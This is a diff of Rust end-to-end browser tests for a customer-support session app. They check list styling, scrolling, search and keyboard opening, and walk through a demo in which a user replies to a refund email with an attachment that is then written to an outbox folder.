+    assert_eq!(
+        page.eval("getComputedStyle(document.querySelector('#session-list .row.r-rona')).borderLeftColor !== getComputedStyle(document.querySelector('#session-list .row.r-declined')).borderLeftColor")
+            .await
+            .unwrap(),
+        json!(true),
+        "results as coloured borders"
+    );
+    // Older sessions load as the list scrolls.
+    page.eval("document.querySelector('#session-list .more').scrollIntoView()")
+        .await
+        .unwrap();
+    wait_js(&mut page, &format!("{rows} === 55"), "the older sessions").await;
+    // Search.
+    set_value(&mut page, "#q", "special").await;
+    wait_js(
+        &mut page,
+        &format!("{rows} === 1 && document.querySelector('#session-list').textContent.includes('Special parcel')"),
+        "the search result",
+    )
+    .await;
+    // The keyboard: focus the entry, Enter opens it.
+    page.eval("document.querySelector('#session-list .row-link').focus()")
+        .await
+        .unwrap();
+    for kind in ["keyDown", "keyUp"] {
+        page.call(
+            "Input.dispatchKeyEvent",
+            json!({"type": kind, "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13, "text": if kind == "keyDown" { "\r" } else { "" }}),
+        )
+        .await
+        .expect("key");
+    }
+    wait_js(
+        &mut page,
+        "!!document.querySelector('#detail .session-detail') && document.querySelector('#detail h2').textContent.includes('Special parcel')",
+        "the session opened with Enter",
+    )
+    .await;
+    let readonly = text_of(&mut page, "#wrapup-widget").await;
+    assert!(
+        readonly.contains("ended without being answered"),
+        "{readonly}"
+    );
+    page.close().await;
+    app.stop().await;
+}
+
+// --- the demo, as a newcomer meets it ------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_demo_opens_onto_the_workspace_and_a_reply_lands_in_the_outbox() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let data = dir.path().join("data");
+    std::fs::create_dir_all(&data).unwrap();
+    let tokens = switchboard::demo::demo_tokens(&data).expect("demo tokens");
+    let config = switchboard::demo::demo_config(&data, "127.0.0.1:0", &tokens);
+    let maildir = data.join("maildir");
+    switchboard::ingest::maildir::ensure_layout(&maildir).unwrap();
+    let running = switchboard::app::Running::start(&config)
+        .await
+        .expect("the demo starts");
+    switchboard::demo::seed(&running.store)
+        .await
+        .expect("demo data");
+    switchboard::demo::deliver_samples(&maildir).unwrap();
+    let url = running.url();
+
+    // The sign-in link the demo prints (the token in the fragment).
+    let context = browser().new_context().await.expect("a browser context");
+    let mut page = browser().new_page_in(Some(&context)).await.expect("a tab");
+    page.set_viewport(1280, 800).await.unwrap();
+    page.navigate(&format!("{url}/sign-in#token={}", tokens["alice"]))
+        .await
+        .unwrap();
+    wait_js(
+        &mut page,
+        "location.pathname === '/' && document.querySelectorAll('#session-list .row').length >= 6 && !!window.htmx",
+        "My Sessions of the demo",
+    )
+    .await;
+    // The sample mails arrive as waiting work.
+    wait_js(
+        &mut page,
+        "document.querySelectorAll('#queue button[data-action=pickup]').length >= 4",
+        "the demo's waiting work",
+    )
+    .await;
+    // Alice's live email has its mail: open it, read, reply.
+    page.eval(
+        "(() => { const a = Array.from(document.querySelectorAll('#session-list .row-link')).find(a => a.textContent.includes('Refund for order 77')); a.click(); return true; })()",
+    )
+    .await
+    .unwrap();
+    wait_js(
+        &mut page,
+        "!!document.querySelector('#detail h2') && document.querySelector('#detail h2').textContent.includes('Refund for order 77') && !!document.querySelector('#detail iframe.preview[src]')",
+        "the refund mail",
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "performance.getEntriesByType('resource').some(e => e.name.includes('/preview?token='))",
+        "the preview loaded",
+    )
+    .await;
+    save_screenshot(&mut page, "demo-workspace.png").await;
+    click(
+        &mut page,
+        "#detail button[data-action=draft][data-kind=reply]",
+    )
+    .await;
+    wait_js(&mut page, "!!document.querySelector('.editor [name=to]') && document.querySelector('.editor [name=to]').value.includes('grace@navy.example')", "the reply editor").await;
+    let body = page
+        .eval("document.querySelector('.editor [name=body]').value")
+        .await
+        .unwrap();
+    set_value(
+        &mut page,
+        ".editor [name=body]",
+        &format!(
+            "Dear Grace,\n\nthe refund for order 77 is on its way.\n{}",
+            body.as_str().unwrap_or_default()
+        ),
+    )
+    .await;
+    wait_js(
+        &mut page,
+        "/Saved \\(version [2-9]/.test(document.querySelector('.editor .save-state').textContent)",
+        "the autosave",
+    )
+    .await;
+    let file = dir.path().join("refund-confirmation.pdf");
+    std::fs::write(&file, b"%PDF-1.4 demo").unwrap();
+    let input = page
+        .call(
+            "Runtime.evaluate",
+            json!({"expression": "document.querySelector('.editor input[type=file]')"}),
+        )
+        .await
+        .unwrap();
+    page.call(
+        "DOM.setFileInputFiles",
+        json!({"files": [file.display().to_string()], "objectId": input["result"]["objectId"]}),
+    )
+    .await
+    .unwrap();
+    wait_js(&mut page, "document.querySelector('.editor .attachment-list').textContent.includes('refund-confirmation.pdf')", "the attachment").await;
+    save_screenshot(&mut page, "demo-reply.png").await;
+    click(&mut page, ".editor [data-editor=send]").await;
+    wait_js(
+        &mut page,
+        "Array.from(document.querySelectorAll('#thread .reply .badge')).some(b => b.textContent.trim() === 'Sent')",
+        "the reply sent",
+    )
+    .await;
+    // It is an .eml file in data/outbox/.
+    let written: Vec<_> = std::fs::read_dir(data.join("outbox"))
+        .expect("the outbox folder")
+        .filter_map(Result::ok)
+        .filter(|e| e.path().extension().is_some_and(|x| x == "eml"))
+        .collect();
+    assert_eq!(written.len(), 1, "one .eml in data/outbox");
+    let eml = std::fs::read_to_string(written[0].path()).unwrap();
+    assert!(
+        eml.contains("the refund for order 77 is on its way")
+            && eml.contains("refund-confirmation.pdf")
+    );
+    page.close().await;
+    running.stop().await.unwrap();
+}
